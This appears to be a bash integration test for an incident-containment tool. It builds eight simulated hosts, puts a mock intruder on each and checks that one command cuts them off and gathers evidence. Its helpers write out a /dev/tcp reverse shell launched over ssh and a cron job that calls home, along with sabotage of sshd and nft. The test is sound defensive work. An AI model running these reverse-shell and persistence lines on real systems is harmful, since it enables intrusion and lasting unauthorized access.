#!/usr/bin/env bash
# Eight hosts are cut off in one command, and most of them are in trouble: real sshd, cron and nftables in network
# namespaces, an intruder who is on all of them in three ways. h2's wrong clock is a monotonic clock of its own (a time
# namespace) and faketime for sshd; faketime does not reach the scout, which is static. h3 does what it was told, and
# then all of its sshd is stopped or gone.
# Usage: fleet.sh FIREBREAK SOURCE_ROOT
. "$2/tests/lib/fleet.sh"
fleet_enter "$@"
. "$2/tests/cli/farm.sh" "$1" "$2"
fleet_up 8 "$scratch/fleet" || { echo "Bail out! the fleet does not start"; exit 1; }
variables
config=$scratch/ssh_config
there=$scratch/intruder                # what the intruder gets: a line each time, in a file for each way and host
mkdir "$there"
run key init
key=$(head -1 "$scratch/out")
all='h1 h2 h3 h4 h5 h6 h7 h8'
held='h1 h2 h4 h8'                     # those that a block stands on at the end

# h8 is reached through the bastion, and directly by its second path. The team keeps a connection to h6 open, and its
# second path would go over the same one.
{
	printf 'Host h8\n\tProxyJump bastion\nHost h8-second\n\tProxyJump none\n'
	printf 'Host h6 h6-second\n\tControlMaster auto\n\tControlPath %s/open\n' "$scratch"
	cat "$fleet/ssh_config"
} >"$config"

register() {          # RESPONDERS
	cat >"$scratch/register/firebreak.yaml" <<-REGISTER
		register: 1
		organisation: {name: Farm, team: sre@example.org, approver: lead}
		ssh_config: $config
		roles: {lead: , sre: {root: true, contain: all}}
		people: {alice: {name: Alice, mail: alice@example.org, roles: [sre, lead], key: '$key'}}
		hosts:
		  h1:
		  h2:
		  h3: {containment: {dead_man: 15}}
		  h4:
		  h5:
		  h6: {containment: {dead_man: 12}}
		  h7:
		  h8:
		  probe:
		configuration: {apply: none}
		containment: {responders: [$1], second: '{host}-second', probe: probe, dead_man: 60}
	REGISTER
}

table() { fleet_on "$1" nft list tables | grep -q firebreak_contain; }
no_table() { ! table "$1"; }
evil_in() {           # HOST: a TCP connection to ssh, by IPv4 or IPv6
	fleet_evil timeout 3 bash -c "exec 3<>/dev/tcp/$(fleet_address "$1" 4)/22" 2>/dev/null ||
		fleet_evil timeout 3 bash -c "exec 3<>/dev/tcp/$(fleet_address "$1" 6)/22" 2>/dev/null
}
lines() { if [ -e "$there/$1" ]; then wc -l <"$there/$1"; else echo 0; fi; }
more_than() { [ "$(lines "$1")" -gt "$2" ]; }
evil_ssh() {          # HOST FAMILY COMMAND
	fleet_evil ssh -F none -i "$fleet/alice" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o BatchMode=yes "alice@$(fleet_address "$1" "$2")" "$3" </dev/null
}
evil_comes() {        # HOST FAMILY: by ssh; a reverse shell goes back by the other family, and cron by the same
	local host=$1 four=4 home shell
	[ "$2" = 6 ] || four=6
	shell=$(fleet_address evil $four)
	home=$(fleet_address evil "$2")
	evil_ssh "$host" "$2" "setsid bash -c 'exec 3<>/dev/tcp/$shell/4444; echo $host >&3; exec bash <&3 >&3' \
		>/dev/null 2>&1 & while echo x; do sleep 0.3; done" >"$there/ssh-$host" 2>/dev/null &
	sessions+=([${host#h}]=$!)
	fleet_on "$host" bash -c 'cat >/var/spool/cron/crontabs/alice
		chown alice:crontab /var/spool/cron/crontabs/alice; chmod 600 /var/spool/cron/crontabs/alice
		setsid cron -f >/dev/null 2>&1 </dev/null &' <<-CRON
		SHELL=/bin/bash
		@reboot while :; do (exec 3<>/dev/tcp/$home/5000 && echo $host >&3) 2>/dev/null; sleep 0.3; done
		* * * * * exec 3<>/dev/tcp/$home/5000 && echo $host >&3
	CRON
}
has_three_ways() {    # HOST
	more_than "ssh-$1" 1 && more_than "shell-$1" 1 && more_than "home-$1" 1
}

# --- each has its trouble, but h1
fleet_on h2 bash -c 'kill $(cat /run/sshd.pid)
	while pgrep -x sshd; do sleep 0.05; done
	setsid unshare --time --monotonic 40000000 --boottime 40000000 --fork \
		faketime -f -40d /usr/sbin/sshd -D -o PidFile=/run/sshd.pid >/dev/null 2>&1 </dev/null &' >/dev/null
fleet_on h3 bash -c 'mv /usr/sbin/nft /usr/sbin/nft.real; cat >/usr/sbin/nft; chmod 755 /usr/sbin/nft' <<-'NFT'
	#!/bin/bash
	/usr/sbin/nft.real "$@"
	r=$?
	if [ "$1" = -f ] && mkdir /run/hangs; then
		kill -STOP $(pgrep -x sshd)
		kill -9 $(cat /run/sshd.pid)
	fi
	exit $r
NFT
fleet_on h4 bash -c 'mkdir /run/etc && mount -t tmpfs -o size=40m full /run/etc && cp -a /etc/. /run/etc/ &&
	mount --move /run/etc /etc && mount -t tmpfs -o size=64k full /dev/shm
	for d in /etc /dev/shm; do head -c 50M /dev/zero >$d/full; done' 2>/dev/null
fleet_on h5 bash -c ': >/run/empty && mount --bind /run/empty /usr/sbin/nft'
fleet_on h6 ip route add unreachable 10.77.0.252
ssh -F "$config" -o ControlMaster=yes -fN h6 >/dev/null 2>&1
scout=$(dirname "$firebreak_program")/firebreak-scout
ssh -F "$config" h6 'cat >/root/scout; chmod 700 /root/scout' <"$scout"
true_that 'h2 answers ssh again' within 20 ssh -F "$config" h2 true
ssh -F "$config" -tt h2 cat /proc/uptime >"$scratch/up" 2>&1 </dev/null
true_that 'it has been up for a year' grep -q '^4[0-9]\{7\}\.' "$scratch/up"
true_that 'and logins are of another month' fleet_on h2 bash -c \
	"last -F -f /var/log/wtmp | grep '^root' | grep -q '$(date -d '-40 days' +%b)'"
true_that 'a connection to h6 is kept open' ssh -F "$config" -O check h6-second

# --- the intruder is on all of them
declare -a sessions=()
fleet_evil python3 "$source_root/tests/live/fleet-intruder.py" "$there" >/dev/null 2>&1 &
true_that 'the intruder listens' within 20 test -e "$there/ready"
for host in $all; do
	evil_comes "$host" $((${host#h} % 2 ? 4 : 6))
done
for host in $all; do
	true_that "$host: a session, a reverse shell and cron call home" within 30 has_three_ways "$host"
done
fleet_kill h7
ip neigh flush dev br0

# --- who comes through a bastion is seen with its address
register "10.77.0.250, 'fd77::fa'"
run declare host:h1 --because 'strange logins'
exits 0 'declared'
run contain 1 h8 --as alice
exits 1 'the bastion is no responder'
says 'you would be cut off: the host sees you come from 10.77.0.252'
true_that 'nothing was done there' no_table h8
register "10.77.0.250, 'fd77::fa', 10.77.0.252"

# --- all of them in one command
"$firebreak_program" contain 1 $all --as alice --json >"$scratch/out" 2>"$scratch/err" </dev/null &
contain=$!
true_that 'h6 is cut off for a while' within 40 table h6
jq -cn '{v: 1, limit_ms: 9000, bytes_max: 1000000, do: {confirm: {incident: 1, level: "isolate",
	responders: ["10.77.0.250"], ports: [22], dead_man_ms: 12000}}}' |
	ssh -F "$config" h6 /root/scout >"$scratch/confirm" 2>&1
code=0
wait $contain || code=$?
true_that 'the first connection, kept open, confirms nothing' \
	grep -q '"ok":false.*this connection is older than the block' "$scratch/confirm"
exits 1 'not all are contained'
is_json 'what came of each'
says '!!! 5 hosts are NOT shown to be contained'
cp "$scratch/out" "$scratch/came"
run status 1
cp "$scratch/out" "$scratch/status"
run status 1 --json
cp "$scratch/out" "$scratch/facts"

came() {              # HOST OUTCOME STANDS WORDS: exactly this
	jq -e --arg h "$1" --arg o "$2" --argjson s "$3" --arg w "$4" '[.[] | select(.host == $h)] | length == 1 and
		(.[0] | .outcome == $o and .stands == $s and (.text | contains($w)))' "$scratch/came" >/dev/null
	result $? "$1 is $2: $4"
}
fact() {              # HOST JQ TEXT: of its row
	jq -e --arg h "$1" "[.hosts[] | select(.host == \$h)] | length == 1 and (.[0] | $2)" "$scratch/facts" >/dev/null
	result $? "$3"
}
for host in h1 h2 h8; do
	came $host contained true 'the probe was refused at all'
	came $host contained true 'BUT not after its next start: no systemd runs there'
	fact $host '.contained and (.result.confirm.kept | startswith("no: no systemd runs here"))' \
		"$host: nothing would load the rules at its next start, and it says so"
done
came h3 unknown false 'it was told, and its answer was lost: run this again, it then says what holds it'
came h4 failed true 'it is cut off now, and not after its next start: '
came h4 failed true 'No space left on device'
came h5 failed false 'it has no nft: packet rules cannot be made there; --level ssh and shutdown do not need it'
came h6 failed false 'the second path did not confirm it, so the host lifts it by itself'
came h7 unreachable false 'nothing was done there; if it runs, go to its console or switch it off'
true_that 'status says of h3 that it is not known' grep -A3 '!!! h3: NOT CONTAINED: unknown' "$scratch/status"
true_that 'in words' grep -q 'it is not known whether a block stands' "$scratch/status"
first=$(jq -r '[.[].host] | (map(. == "h1" or . == "h2" or . == "h8") | rindex(true)) <
	(map(. == "h3" or . == "h6" or . == "h7") | index(true))' "$scratch/came")
result "$([ "$first" = true ]; echo $?)" 'who hangs, is dead or has no second path holds back nobody'
fact h2 '.result.contain.left_ms | . > 30000 and . <= 60000' 'h2: its dead-man has the time it was given'
fact h8 '.result.contain.connection | startswith("10.77.0.252 ")' 'h8 was checked with the bastion'"'"'s address'
fact h8 '.result.confirm.connection | startswith("10.77.0.250 ")' 'and confirmed without it'
true_that 'h3: the command was done when it hung' fleet_on h3 test -e /run/hangs
true_that 'and its dead-man lifts it' within 40 no_table h3
true_that 'h4 does not claim to be kept' never fleet_on h4 test -e /etc/systemd/system/firebreak-contain.service

# --- nothing of the intruder's goes on where the block stands; where it was lifted, cron calls home again
true_that 'h6: lifted by its dead-man' within 40 no_table h6
true_that 'h6: its port is open again' evil_in h6
declare -A seen=()
for host in $held; do
	for way in ssh shell home; do seen[$way-$host]=$(lines "$way-$host"); done
done
for host in h5 h6; do
	before=$(lines "home-$host")
	true_that "$host: cron calls home, as the intruder wants it" within 40 more_than "home-$host" $((before + 8))
done
for host in $held; do
	true_that "$host: cron runs" fleet_on "$host" pgrep -x cron
	for way in ssh shell home; do
		true_that "$host: nothing more from $way" [ "$(lines "$way-$host")" = "${seen[$way-$host]}" ]
	done
	true_that "$host: the session is ended at the intruder's own end" \
		timeout 20 tail --pid="${sessions[${host#h}]}" -f /dev/null
	true_that "$host: nobody gets in" never evil_in "$host"
done
for host in h1 h2 h4; do
	true_that "$host: the responder does" ssh -F "$config" "$host" true
done

# --- what the words say is true
run contain 1 h5 --level ssh --as alice
exits 0 'h5 without nft: ssh is stopped'
true_that 'nobody gets in there' never evil_in h5

# --- evidence of each host that was reached
for host in h1 h2 h3 h4 h5 h6 h8; do
	run evidence 1 $host
	if [ $host = h3 ]; then
		exits 1 'h3: what came before it hung opens'
		says 'this is not whole: '
	else
		exits 0 "$host: its evidence opens"
	fi
	true_that "$host: and holds what the intruder ran" jq -es --arg h "$host" '
		any(.s == "begin" and .name == $h) and
		any(.s == "process" and (.argv // [] | join(" ") | contains("/5000")))' "$scratch/out"
done
run evidence 1 h2
true_that 'h2: a login of a terminal is in it' jq -es '
	any(.s == "login" and .user == "root" and .record == 7)' "$scratch/out"
run evidence 1 h7
exits 1 'h7: there is none'
says 'this is not whole: '
result "$([ ! -s "$scratch/out" ]; echo $?)" 'and nothing is shown as such'
run journal verify
exits 0 'the journal is whole'
ssh -F "$config" -O exit h6 2>/dev/null
finish
